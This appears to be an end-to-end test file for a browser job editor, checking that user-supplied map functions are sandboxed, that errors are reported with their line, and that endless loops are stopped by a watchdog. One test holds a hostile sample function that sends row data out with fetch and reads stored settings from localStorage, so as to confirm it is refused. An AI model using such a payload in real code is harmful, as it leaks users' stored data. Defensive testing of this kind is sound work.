import type { JobDocument } from "../src/graph/job-document.ts";
import { expect, testsOfOnePage } from "./app.ts";
import { countedWords } from "./jobs.ts";

const test = testsOfOnePage((app) => app.openEmpty());

/** A job whose map carries `source` as its function. */
function withFunction(name: string, source: string): JobDocument {
  const job = countedWords({ name, rows: 8, intervalMs: 0, run: { mode: "deterministic", seed: 5 } });
  const map = { id: "map", type: "map", name: "spell", config: { function: source, fields: [{ name: "word", type: "STRING" }] } };
  const port = (operator: string, end: string): { operator: string; port: string } => ({ operator, port: end });
  return {
    ...job,
    config: { ...job.config, "restart-strategy.type": "none" },
    operators: [...job.operators.slice(0, 1), map, ...job.operators.slice(2)],
    edges: [
      { id: "e1", from: port("words", "out"), to: port("map", "in") },
      { id: "e2", from: port("map", "out"), to: port("table", "in") },
    ],
  };
}

test("[SB6] a hostile function is refused by name before it runs, and opening its job runs nothing", async ({ app, page, baseURL }) => {
  await app.importJob(withFunction("hostile", 'fetch("http://127.0.0.1:9/" + row.word), ({ word: localStorage.getItem("weir.settings") })'));
  await expect(page.getByRole("button", { name: /^[1-9]\d* problems?/ })).toBeVisible();
  await page.getByRole("button", { name: /^[1-9]\d* problems?/ }).click();
  await expect(page.getByRole("region", { name: "Timeline" })).toContainText("fetch");
  await expect(app.status).toContainText("not running");
  expect(app.requests.filter((url) => !url.startsWith(baseURL ?? "") && !/^(blob|data):/.test(url))).toEqual([]);
});

test("[SB9] a throwing function fails its task, and the page shows record, function and line", async ({ app, page }) => {
  await app.importJob(withFunction("throwing", '(() => {\n  if (row.n === 5) throw new Error("five is right out");\n  return { word: row.word };\n})()'));
  await app.run();
  await app.finished();
  await app.timeline("Log");
  const log = page.getByRole("table", { name: "Log of the run" });
  await expect(log).toContainText("five is right out");
  await expect(log).toContainText(/spell, function, line 2: Error: five is right out \(record .*5.*\)/);
});

test("[HB7] an endless function is ended by the watchdog, which names its operator", async ({ app, page }) => {
  await app.importJob(withFunction("endless", "(() => {\n  while (row.n >= 3) ;\n  return { word: row.word };\n})()"));
  await app.run();
  await app.finished();
  await app.timeline("Log");
  await expect(page.getByRole("table", { name: "Log of the run" })).toContainText("user function of spell ran longer than 2 s");
  await expect(app.canvas).toBeVisible();
});
